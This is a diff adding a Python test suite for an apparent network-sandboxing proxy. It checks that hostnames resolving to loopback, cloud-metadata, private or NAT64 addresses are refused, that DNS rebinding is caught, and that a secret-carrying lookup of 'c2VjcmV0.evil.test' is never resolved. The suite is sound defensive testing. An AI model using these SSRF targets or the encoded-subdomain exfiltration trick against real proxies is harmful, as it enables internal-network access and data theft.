@@ -1,0 +1,137 @@
+"""Resolution by the host's configuration, and what a name may resolve to: a host of its own, with a DNS server on
+127.0.0.1:53 and a public address that is not an interface's (a local route)."""
+import os
+import socket
+import struct
+import subprocess
+import sys
+import threading
+
+import nettest
+
+PUBLIC = "93.184.216.34"
+ANSWERS = {
+    "good.test": [("A", PUBLIC)],
+    "v6loop.test": [("AAAA", "::1")],
+    "mapped.test": [("AAAA", "::ffff:127.0.0.1")],
+    "zero.test": [("A", "0.0.0.0")],
+    "metadata.test": [("A", "169.254.169.254")],
+    "alias.test": [("CNAME", "loop.test"), ("A", "127.0.0.1")],
+    "nat64.test": [("AAAA", "64:ff9b::7f00:1")],
+    "mixed.test": [("A", PUBLIC), ("A", "127.0.0.1")],
+    "loop.test": [("A", "127.0.0.1")],
+    "private.test": [("A", "10.9.8.7")],
+}
+
+
+def enter_own_host():
+    """This script again, in namespaces where it may listen on port 53 and replace resolv.conf."""
+    os.execvp("unshare", ["unshare", "-Urnm", nettest.PYTHON, os.path.abspath(__file__), *sys.argv[1:], "--inside"])
+
+
+def encode_name(name):
+    return b"".join(bytes([len(label)]) + label.encode() for label in name.split(".")) + b"\0"
+
+
+class Resolver:
+    def __init__(self):
+        self.asked, self.turn = [], {}
+        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        self.socket.bind(("127.0.0.1", 53))
+        threading.Thread(target=self.serve, daemon=True).start()
+
+    def records(self, name, kind):
+        if name == "rebind.test" and kind == 1:
+            self.turn[name] = self.turn.get(name, 0) + 1
+            return [("A", PUBLIC if self.turn[name] == 1 else "127.0.0.1")]
+        wanted = {1: ("A", "CNAME"), 28: ("AAAA", "CNAME")}.get(kind, ())
+        return [r for r in ANSWERS.get(name, []) if r[0] in wanted]
+
+    def serve(self):
+        while True:
+            query, client = self.socket.recvfrom(4096)
+            labels, at = [], 12
+            while query[at]:
+                labels.append(query[at + 1:at + 1 + query[at]].decode())
+                at += 1 + query[at]
+            name, kind = ".".join(labels).lower(), struct.unpack(">H", query[at + 1:at + 3])[0]
+            self.asked.append(name)
+            records, body = self.records(name, kind), b""
+            owner = name
+            for record, value in records:
+                number = {"A": 1, "AAAA": 28, "CNAME": 5}[record]
+                data = encode_name(value) if number == 5 else socket.inet_pton(socket.AF_INET if number == 1 else socket.AF_INET6, value)
+                body += encode_name(owner) + struct.pack(">HHIH", number, 1, 0, len(data)) + data
+                owner = value if number == 5 else owner
+            known = name in ANSWERS or name == "rebind.test"
+            header = query[:2] + struct.pack(">HHHHH", 0x8180 if known else 0x8183, 1, len(records), 0, 0)
+            self.socket.sendto(header + query[12:at + 5] + body, client)
+
+
+class Resolution(nettest.NetTest):
+    @classmethod
+    def setUpClass(cls):
+        super().setUpClass()
+        run = lambda *c: subprocess.run(c, check=True)
+        run("ip", "link", "set", "lo", "up")
+        run("ip", "route", "add", "local", "93.184.216.0/24", "dev", "lo")
+        for name, text in {"resolv.conf": "nameserver 127.0.0.1\n", "nsswitch.conf": "hosts: files dns\n"}.items():
+            with open(f"{cls.scratch}/{name}", "w", encoding="ascii") as f:
+                f.write(text)
+            run("mount", "--bind", f"{cls.scratch}/{name}", f"/etc/{name}")
+        cls.resolver = Resolver()
+        cls.web = cls.serve(nettest.Web())
+        cls.servers = []
+        for address in PUBLIC, "127.0.0.1":
+            web = nettest.Web()
+            web.server.socket.close()
+            web.server.socket = socket.create_server((address, 80))
+            cls.servers.append(cls.serve(web))
+
+    def setUp(self):
+        self.resolver.asked.clear()
+
+    def get(self, name, allow=None):
+        run = self.inside(self.spec(allow or [name]), """
+print(proxy(b"GET http://%s/x HTTP/1.1\\r\\nHost: %s\\r\\nConnection: close\\r\\n\\r\\n" % ((sys.argv[1].encode(),) * 2)).decode())
+""", name)
+        return run
+
+    def test_control(self):
+        run = self.get("good.test")
+        self.assertIn("hello /x", run.out, run)
+        self.assertIn("good.test", self.resolver.asked)
+
+    def test_names_that_lead_home(self):
+        for name in "v6loop", "mapped", "zero", "metadata", "alias", "nat64", "mixed", "loop", "private":
+            with self.subTest(name):
+                run = self.get(name + ".test")
+                self.assertIn("403 Forbidden", run.out, run)
+                self.assertIn("X-Dirbox-Reason: guarded-address", run.out, run)
+
+    def test_rebinding(self):
+        """Public at the first look, loopback ever after: what is dialled is what was checked."""
+        run = self.get("rebind.test")
+        self.assertIn("hello /x", run.out, run)
+        run = self.get("rebind.test")
+        self.assertIn("guarded-address", run.out, run)
+
+    def test_denied_names_are_never_looked_up(self):
+        secret = "c2VjcmV0.evil.test"
+        run = self.inside(self.spec(["good.test"]), """
+n = sys.argv[1].encode()
+for data in (b"CONNECT %s:443 HTTP/1.1\\r\\nHost: %s:443\\r\\n\\r\\n" % (n, n), b"GET http://%s/ HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n" % (n, n)): proxy(data)
+s = connect("127.0.0.1", 3128); s.sendall(b"\\x05\\x01\\0"); s.recv(2)
+s.sendall(b"\\x05\\x01\\0\\x03" + bytes([len(n)]) + n + b"\\x01\\xbb"); s.recv(10)
+for call in (lambda: socket.getaddrinfo(sys.argv[1], 1), lambda: socket.gethostbyname("x." + sys.argv[1])): outcome(call)
+socket.getaddrinfo("good.test", 80)
+""", secret)
+        self.assertEqual(len([e for e in run.events if e.get("event") == "denied"]), 3, run)
+        self.assertEqual(self.resolver.asked, [])
+
+
+if __name__ == "__main__":
+    if "--inside" not in sys.argv:
+        enter_own_host()
+    sys.argv.remove("--inside")
+    nettest.unittest.main(verbosity=2)
